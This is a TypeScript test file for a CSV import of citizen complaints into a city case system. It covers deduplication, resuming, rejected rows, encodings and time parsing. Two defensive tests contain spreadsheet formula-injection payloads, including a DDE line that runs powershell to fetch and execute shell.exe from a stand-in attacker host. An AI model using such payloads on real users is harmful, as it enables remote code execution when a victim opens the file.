import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { parse } from 'csv-parse/sync'
import { stringify } from 'csv-stringify/sync'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { type City, openCity } from '#tests/setup/city.ts'
import type { ImportInput } from './import.schema.ts'
import { importCases } from './import-cases.server.ts'
import { readTime } from './import-row.server.ts'

let city: City
let folder: string

beforeEach(() => {
  city = openCity()
  folder = mkdtempSync(path.join(tmpdir(), 'import-'))
})

afterEach(async () => {
  await city.close()
  rmSync(folder, { recursive: true, force: true })
})

const HEADER = ['no', 'subject', 'body', 'time']
const MAP = { title: 'subject', text: 'body', at: 'time' } as const

function write(content: string | Uint8Array, name = 'messages.csv'): string {
  const file = path.join(folder, name)
  writeFileSync(file, content)
  return file
}

const csv = (...rows: string[][]) => stringify([HEADER, ...rows])
const message = (n: number, time = '2019/2/28 11:25:05') => [String(n), `第 ${n} 件`, `小区第 ${n} 盏路灯不亮了`, time]
const messages = (count: number) => Array.from({ length: count }, (_, n) => message(n))

function run(file: string, extra: Partial<ImportInput> = {}, watch: Parameters<typeof importCases>[1] = {}) {
  return importCases({ file, map: MAP, ...extra }, watch, city.deps)
}

const filed = () => city.deps.db.case.findMany({ orderBy: { title: 'asc' } })

describe('an import', () => {
  test('files each row with the time it was written, in the city’s zone', async () => {
    expect(await run(write(csv(...messages(3))))).toMatchObject({
      filed: 3,
      repeated: 0,
      rejected: 0,
      isComplete: true,
    })
    const [first] = await filed()
    expect(first).toMatchObject({
      channel: 'import',
      type: 'complaint',
      title: '第 0 件',
      requesterId: null,
      published: false,
    })
    expect(first?.submittedAt.toISOString()).toBe('2019-02-28T03:25:05.000Z')
  })

  test('run a second time adds nothing, also when the file moved or grew', async () => {
    await run(write(csv(...messages(3))))
    expect(await run(write(csv(...messages(3))))).toMatchObject({ filed: 0, repeated: 3 })
    expect(await run(write(csv(...messages(5)), 'more.csv'), { batch: 'messages.csv' })).toMatchObject({
      filed: 2,
      repeated: 3,
    })
    expect(await city.deps.db.case.count()).toBe(5)
  })

  test('knows rows by their id when there is one, and leaves a changed row alone', async () => {
    const map = { ...MAP, id: 'no' }
    await run(write(csv(message(1))), { map })
    const changed = await run(write(csv(['1', '别的标题', '完全不同的内容，另一件事', ''])), { map })
    expect(changed).toMatchObject({ filed: 0, rejected: 1 })
    expect(readFileSync(changed.rejectsFile ?? '', 'utf8')).toContain('imported before')
    expect((await filed()).map(({ title }) => title)).toEqual(['第 1 件'])
  })

  test('goes on where it was stopped', async () => {
    const file = write(csv(...messages(10)))
    const stop = new AbortController()
    const watch = { signal: stop.signal, onProgress: ({ done }: { done: number }) => void (done === 4 && stop.abort()) }
    expect(await run(file, {}, watch)).toMatchObject({ done: 4, filed: 4, isComplete: false })
    expect(await run(file)).toMatchObject({ done: 10, filed: 10, repeated: 0, resumedAt: 4, isComplete: true })
    expect(await run(file)).toMatchObject({ filed: 0, repeated: 10, resumedAt: 0 })
  })

  test('takes a byte order mark, quoted line breaks and other types', async () => {
    const file = write(`\ufeff${csv(['1', '标题', '第一行内容\n第二行内容', '2020-01-02 3:04'])}`)
    expect(await run(file, { type: 'suggestion', publish: true })).toMatchObject({ filed: 1 })
    expect((await filed())[0]).toMatchObject({
      type: 'suggestion',
      text: '第一行内容\n第二行内容',
      publishConsent: true,
    })
  })
})

describe('a row that cannot be filed', () => {
  test('goes to the rejects file with its reason, and the others are filed', async () => {
    const rows = [
      message(1),
      ['2', '标题', '短', ''],
      ['3', '标题', '内容足够长了', '昨天'],
      ['4', '标题', '内容足够长了', '2099/1/1'],
    ]
    const result = await run(write(`${csv(...rows)}5,too few cells\n`))
    expect(result).toMatchObject({ filed: 1, rejected: 4, total: 5 })
    const rejects = parse(readFileSync(result.rejectsFile ?? ''), { columns: true, bom: true }) as Array<
      Record<string, string>
    >
    expect(rejects.map(({ line }) => line)).toEqual(['3', '4', '5', '6'])
    expect(rejects[0]).toMatchObject({
      reason_zh: 'body: 至少 5 个字',
      reason_en: 'body: At least 5 characters',
      subject: '标题',
    })
    expect(rejects[1]?.reason_zh).toContain('time:')
    expect(rejects[2]?.reason_en).toContain('future')
    expect(rejects[3]?.reason_zh).toContain('应有 4 格')
  })

  test('is written so that no spreadsheet runs it as a formula', async () => {
    const payloads = [
      "=10+20+cmd|' /C calc'!A0",
      "@SUM(1+9)*cmd|' /C calc'!A0",
      '+1+1',
      '-2+3',
      '\t=1',
      'DDE ("cmd";"/C calc";"!A0")A0',
    ]
    const result = await run(write(csv(...payloads.map((payload) => [payload, payload, '短', payload]))))
    expect(result).toMatchObject({ filed: 0, rejected: payloads.length })
    const rows = parse(readFileSync(result.rejectsFile ?? ''), { bom: true }) as string[][]
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
  })

  test('formulas in a good row are kept as the words they are', async () => {
    const payload = "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0"
    await run(write(csv(['1', payload, payload, ''])))
    expect((await filed())[0]).toMatchObject({ title: payload, text: payload })
  })
})

describe('a file that is not right is refused before anything is filed', () => {
  const refusal = (file: string, extra: Partial<ImportInput> = {}) =>
    run(file, extra).then(
      () => 'not refused',
      (error: { reason: string; text: { en: string } }) => `${error.reason}: ${error.text.en}`,
    )

  afterEach(async () => expect(await city.deps.db.case.count()).toBe(0))

  test('no file, an empty file, a folder', async () => {
    expect(await refusal(path.join(folder, 'none.csv'))).toContain('There is no file')
    expect(await refusal(folder)).toContain('There is no file')
    expect(await refusal(write(''))).toContain('The file is empty')
  })

  test('another encoding', async () => {
    const gbk = Uint8Array.from([...Buffer.from('no,subject,body,time\n1,'), 0xc2, 0xb7, 0xb5, 0xc6, 0x0a])
    expect(await refusal(write(gbk))).toContain('not UTF-8')
    expect(await refusal(write(Buffer.from(`\ufeff${csv(message(1))}`, 'utf16le')))).toContain('not UTF-8')
  })

  test('a column that is not there, twice there, or too many of them', async () => {
    expect(await refusal(write(csv(message(1))), { map: { text: 'words' } })).toContain(
      'it has: no, subject, body, time',
    )
    expect(await refusal(write('a,b,a\n1,2,3\n'), { map: { text: 'b' } })).toContain('Two columns')
    const wide = Array.from({ length: 101 }, (_, n) => `c${n}`).join(',')
    expect(await refusal(write(`${wide}\n`), { map: { text: 'c1' } })).toContain('more than 100 columns')
    expect(await refusal(write(csv(message(1))), { map: { title: 'subject' } })).toContain('form')
  })

  test('a quotation mark that is never closed, even at the very end', async () => {
    expect(await refusal(write(`${csv(...messages(5))}6,"open,words,\n`))).toContain('not correct CSV')
  })
})

describe('times', () => {
  const now = new Date('2026-01-01T00:00:00Z')
  test.each([
    ['2019/2/28 11:25:05', '2019-02-28T03:25:05.000Z'],
    ['2019-2-8 1:05', '2019-02-07T17:05:00.000Z'],
    ['2019/12/01', '2019-11-30T16:00:00.000Z'],
    ['2019-02-28T11:25:05Z', '2019-02-28T11:25:05.000Z'],
  ])('%s is %s', (written, instant) => {
    expect(readTime(written, 'Asia/Shanghai', now)?.toISOString()).toBe(instant)
  })
  test.each(['2019/2/30', '28.2.2019', 'yesterday', '2026/1/2', '1969/1/1'])('%s is refused', (written) => {
    expect(() => readTime(written, 'Asia/Shanghai', now)).toThrow()
  })
})
